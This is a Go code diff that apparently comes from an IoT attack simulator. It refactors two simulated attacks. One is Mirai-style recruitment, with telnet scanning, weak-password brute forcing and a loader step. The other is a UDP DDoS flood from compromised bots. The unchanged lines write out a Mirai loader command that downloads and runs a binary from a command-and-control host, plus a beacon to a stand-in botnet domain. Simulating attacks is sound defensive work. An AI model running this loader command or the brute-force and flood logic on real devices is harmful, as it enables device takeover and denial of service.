@@ -53,9 +53,9 @@ func (a *MiraiRecruit) Execute(env *Env) Result {
 	for i, id := range targets {
 		d := env.Devices[id]
 		delay := time.Duration(i) * 150 * time.Millisecond
-		id := id
+		src := netsim.Addr("lan:" + id)
 		env.Kernel.Schedule(delay, "mirai-scan", func() {
-			sendLAN(env, netsim.Addr("lan:"+id), 23, "telnet", 60, []byte("\xff\xfb\x01"), "attack:scan")
+			sendLAN(env, src, 23, "telnet", 60, []byte("\xff\xfb\x01"), "attack:scan")
 		})
 		probes++
 		if !d.HasOpenPort("telnet") {
@@ -65,13 +65,13 @@ func (a *MiraiRecruit) Execute(env *Env) Result {
 		for j, cred := range device.WeakPasswords {
 			cred := cred
 			env.Kernel.Schedule(delay+time.Duration(j+1)*200*time.Millisecond, "mirai-brute", func() {
-				sendLAN(env, netsim.Addr("lan:"+id), 23, "telnet", 80,
+				sendLAN(env, src, 23, "telnet", 80,
 					[]byte(cred.User+":"+cred.Password+"\nenable\nsystem\nshell"), "attack:bruteforce")
 			})
 			if d.Login(cred.User, cred.Password) {
 				// Loader phase: the dropper shell sequence.
 				env.Kernel.Schedule(delay+2*time.Second, "mirai-load", func() {
-					sendLAN(env, netsim.Addr("lan:"+id), 23, "telnet", 300,
+					sendLAN(env, src, 23, "telnet", 300,
 						[]byte("/bin/busybox; wget http://"+string(a.CNC)+"/mirai.arm; chmod 777 ./dvrHelper && ./dvrHelper"),
 						"attack:loader")
 				})
@@ -85,7 +85,7 @@ func (a *MiraiRecruit) Execute(env *Env) Result {
 							return
 						}
 						env.Gateway.SendOut(env.Net, &netsim.Packet{
-							Src: netsim.Addr("lan:" + id), SrcPort: 48101,
+							Src: src, SrcPort: 48101,
 							Dst: a.CNC, DstPort: 6667,
 							Proto: "TCP", Size: 64,
 							Payload: []byte("PING cnc.botnet.example"),
@@ -139,7 +139,14 @@ func (a *DDoSFlood) Execute(env *Env) Result {
 		}
 		sortStrings(bots)
 	}
-	if len(bots) == 0 {
+	// Skip IDs that name no device in the environment.
+	known := make([]string, 0, len(bots))
+	for _, id := range bots {
+		if env.Devices[id] != nil {
+			known = append(known, id)
+		}
+	}
+	if len(known) == 0 {
 		return Result{Attack: a.Name(), Blocked: "no bots available"}
 	}
 	rate := a.Rate
@@ -151,15 +158,15 @@ func (a *DDoSFlood) Execute(env *Env) Result {
 		dur = 10 * time.Second
 	}
 	interval := time.Second / time.Duration(rate)
-	for _, id := range bots {
-		id := id
+	for _, id := range known {
 		d := env.Devices[id]
+		src := netsim.Addr("lan:" + id)
 		t := env.Kernel.Every(interval, interval/4, "ddos", func() {
 			if !d.Compromised {
 				return
 			}
 			env.Gateway.SendOut(env.Net, &netsim.Packet{
-				Src: netsim.Addr("lan:" + id), SrcPort: 50000,
+				Src: src, SrcPort: 50000,
 				Dst: a.Victim, DstPort: 80,
 				Proto: "UDP", Size: 512, App: "attack:flood",
 			})
@@ -169,7 +176,7 @@ func (a *DDoSFlood) Execute(env *Env) Result {
 	}
 	return Result{
 		Attack: a.Name(), Succeeded: true,
-		Impact: fmt.Sprintf("%d bots flooding %s at %d pps each", len(bots), a.Victim, rate),
+		Impact: fmt.Sprintf("%d bots flooding %s at %d pps each", len(known), a.Victim, rate),
 	}
 }
 
